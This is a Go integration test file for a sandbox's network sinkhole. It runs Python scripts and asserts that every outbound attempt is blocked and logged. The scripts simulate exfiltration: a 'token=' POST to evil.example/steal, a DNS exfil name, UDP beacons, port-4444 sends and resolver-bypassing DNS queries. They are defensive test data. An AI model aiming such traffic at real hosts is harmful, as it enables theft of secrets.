//go:build linux

package integration

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"skillbox/audit"
	"skillbox/helper"
)

// sunk is a policy whose rules name one thing, and nothing of it is reached.
const sunk = `
sinkhole: true
egress:
  - {domains: [api.allowed.example], ports: [80, 443]}
  - {cidrs: [20.1.1.40/32], ports: ["53/udp", 9999]}
`

// inASinkhole runs a script in a sinkhole, in every way that there is to run one, and demands that nothing left the host.
func inASinkhole(t *testing.T, policy, script string, check func(t *testing.T, r *helper.Result, records []audit.Record)) {
	t.Helper()
	inWays(t, sinkable(everyWay()), func(t *testing.T, w *world, y way) {
		text := strings.ReplaceAll(y.policy(policy), "  path: capture\n", "")
		r := w.run(t, y, call{mode: y.mode, policy: text, words: []string{"/usr/bin/python3", "-c", script}})
		if r.Verdict != helper.Exited || r.ExitCode != 0 {
			t.Fatalf("%s %d: %v\n%s\n%s", r.Verdict, r.ExitCode, r.Error, r.Stdout, r.Stderr)
		}
		w.only(t)
		var packets int
		w.book.write(func() { packets = len(w.book.packets) })
		if asked, visits := w.asked(), w.visits(nil); len(asked)+len(visits)+packets > 0 {
			t.Errorf("something left the box: questions %q, connections %v, %d kinds of packets", asked, visits, packets)
		}
		check(t, r, recorded(t, y.mode, r.ID))
	})
}

// sinkable are the ways that a sinkhole may take the place of.
func sinkable(all []way) []way {
	return slices.DeleteFunc(all, func(y way) bool { return y.path == "veth" })
}

// details are those of one kind in a run's records.
func details[D audit.Detail](records []audit.Record) (all []D) {
	for _, r := range records {
		if d, ok := r.Detail.(D); ok {
			all = append(all, d)
		}
	}
	return all
}

func TestASinkholeAnswersEveryName(t *testing.T) {
	const script = `
import socket
def look(name, family=0):
    try: return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, family, socket.SOCK_STREAM)})
    except OSError as e: return [str(e)]
names = ['api.allowed.example', 'evil.example', 'evil.example', 'aGVsbG8.exfil.example', 'no_name.example', 'nothing.invalid']
for n in names: print(n, *look(n, socket.AF_INET))
print('six', *look('evil.example', socket.AF_INET6))
`
	inASinkhole(t, sunk, script, func(t *testing.T, r *helper.Result, records []audit.Record) {
		lines := strings.Split(strings.TrimSpace(r.Stdout), "\n")
		if len(lines) != 7 || lines[1] != lines[2] {
			t.Fatalf("%q", lines)
		}
		seen := map[string]bool{}
		for i, line := range lines {
			_, addr, _ := strings.Cut(line, " ")
			if strings.Contains(addr, " ") || strings.HasPrefix(addr, "[") || i != 2 && seen[addr] {
				t.Errorf("%s", line)
			}
			seen[addr] = true
		}
		want := map[string]string{"api.allowed.example": audit.Allowed, "evil.example": audit.Denied, "agvsbg8.exfil.example": audit.Denied, "no_name.example": audit.Denied, "nothing.invalid": audit.Denied}
		found := map[string]int{}
		for _, d := range details[audit.DNS](records) {
			found[d.Name]++
			if d.Layer != "sinkhole" || d.Verdict != want[d.Name] || len(d.Addresses) != 1 || !seen[d.Addresses[0]] {
				t.Errorf("%+v", d)
			}
			if d.Name == "evil.example" && d.Remedy != "to allow evil.example:443 add {domains: [evil.example], ports: [443]} to network.egress" {
				t.Errorf("%q", d.Remedy)
			}
		}
		for name := range want {
			if found[name] == 0 {
				t.Errorf("no record of %s in %v", name, found)
			}
		}
		if len(r.Denials) > 0 {
			t.Errorf("%+v", r.Denials)
		}
	})
}

func TestASinkholeTakesEveryConnection(t *testing.T) {
	const script = `
import socket, urllib.request, ssl
out = []
def tcp(host, port, data, read=True):
    s = socket.create_connection((host, port), 5)
    s.sendall(data)
    s.shutdown(socket.SHUT_WR)
    got = b''
    while read and (part := s.recv(4096)): got += part
    s.close()
    return got
print(urllib.request.urlopen(urllib.request.Request('http://evil.example/steal', data=b'token=abc\x1b[31m' + b'x' * 9000), timeout=5).status)
print(urllib.request.urlopen('http://api.allowed.example/', timeout=5).status)
print(tcp('203.0.113.7', 4444, b'hello \xff\x00'))
print(tcp('2001:db8:7::9', 4444, b'six'))
print(tcp('20.1.1.40', 9999, b'declared'))
try: ssl.create_default_context().wrap_socket(socket.create_connection(('secret.example', 443), 5), server_hostname='secret.example')
except OSError as e: print(type(e).__name__)
anyone = ssl._create_unverified_context()
print(urllib.request.urlopen(urllib.request.Request('https://careless.example/', data=b'within tls'), timeout=5, context=anyone).status)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(u.sendto(b'beacon', ('198.51.100.9', 5555)), u.sendto(b' twice', ('198.51.100.9', 5555)))
u.settimeout(3)
q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06direct\x07example\x00\x00\x01\x00\x01'
u.sendto(q, ('8.8.8.8', 53)); print(len(u.recv(512)) > len(q))
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ('2001:4860:4860::8888', 53)); print(len(s.recv(512)) > len(q))
s = socket.create_connection(('9.9.9.9', 53), 5); s.sendall(b'\x00\x20' + q.replace(b'direct', b'bytcp!')); print(len(s.recv(512)) > len(q) + 2)
`
	inASinkhole(t, sunk, script, func(t *testing.T, r *helper.Result, records []audit.Record) {
		t.Log(r.Stdout)
		type seen struct {
			verdict, first string
			out            int64
		}
		got := map[string]seen{}
		for _, c := range details[audit.Connection](records) {
			key := fmt.Sprintf("%s %s:%d", c.Proto, c.Name, c.Port)
			if c.Name == "" {
				key = fmt.Sprintf("%s %s", c.Proto, join(c.Address, c.Port))
			}
			got[key] = seen{c.Verdict, c.FirstBytes, c.BytesOut}
			if c.Layer != "sinkhole" || (c.Verdict == audit.Denied) != (c.Remedy != "") {
				t.Errorf("%+v", c)
			}
		}
		for key, want := range map[string]seen{
			"tcp evil.example:80":           {audit.Denied, `POST /steal HTTP/1.1\u000d\u000a`, 9000},
			"tcp api.allowed.example:80":    {audit.Allowed, `GET / HTTP/1.1`, 100},
			"tcp 203.0.113.7:4444":          {audit.Denied, `hello \xff\u0000`, 8},
			"tcp [2001:db8:7::9]:4444":      {audit.Denied, "six", 3},
			"tcp 20.1.1.40:9999":            {audit.Allowed, "declared", 8},
			"tcp secret.example:443":        {audit.Denied, `\u0016\u0003\u0001`, 100},
			"tcp careless.example:443":      {audit.Denied, `POST / HTTP/1.1\u000d\u000a`, 100},
			"tcp 9.9.9.9:53":                {audit.Denied, `\u0000 \u00124\u0001`, 34},
			"udp 198.51.100.9:5555":         {audit.Denied, "beacon twice", 12},
			"udp 8.8.8.8:53":                {audit.Denied, `\u00124\u0001`, 32},
			"udp [2001:4860:4860::8888]:53": {audit.Denied, `\u00124\u0001`, 32},
		} {
			if g := got[key]; g.verdict != want.verdict || !strings.HasPrefix(g.first, want.first) || g.out < want.out {
				t.Errorf("%s: %+v, want %+v", key, g, want)
			}
		}
		names := map[string]bool{}
		for _, d := range details[audit.DNS](records) {
			names[d.Name] = true
		}
		if !names["direct.example"] || !names["bytcp!.example"] {
			t.Errorf("a question to another server is not in %v", names)
		}
		if strings.Count(r.Stdout, "True") != 3 || strings.Count(r.Stdout, "200") != 3 || !strings.Contains(r.Stdout, "SSLCertVerificationError") {
			t.Error(r.Stdout)
		}
		if envelope := asJSON(t, r.Network); strings.Contains(envelope, "token=") || !strings.Contains(envelope, `"sinkhole":true`) {
			t.Errorf("the envelope: %s", envelope)
		}
	})
}

// What comes above the policy's limits is refused, and is on record with what it began with.
func TestASinkholeHoldsTheLimits(t *testing.T) {
	const script = `
import socket
s = socket.create_connection(('big.example', 4444), 5)
try:
    for _ in range(100): s.sendall(b'loot' * 16384)
    print('all')
except OSError as e: print(type(e).__name__)
try: print(socket.create_connection(('small.example', 4444), 5).recv(1))
except OSError as e: print(type(e).__name__)
`
	inASinkhole(t, "sinkhole: true\nlimits: {bytes: 100Ki}", script, func(t *testing.T, r *helper.Result, records []audit.Record) {
		if strings.Contains(r.Stdout, "all") || strings.Contains(r.Stdout, "b''") {
			t.Error(r.Stdout)
		}
		found := 0
		for _, c := range details[audit.Connection](records) {
			if c.Rule != "network.limits.bytes: 102400" && !strings.Contains(c.Remedy, "network.limits.bytes") || c.Verdict != audit.Denied {
				t.Errorf("%+v", c)
			}
			if c.Name == "big.example" && strings.HasPrefix(c.FirstBytes, "lootloot") {
				found++
			}
		}
		if found != 1 || r.Usage.Net == nil || r.Usage.Net.Sent > 200<<10 {
			t.Errorf("%+v, %+v", r.Denials, r.Usage.Net)
		}
	})
}
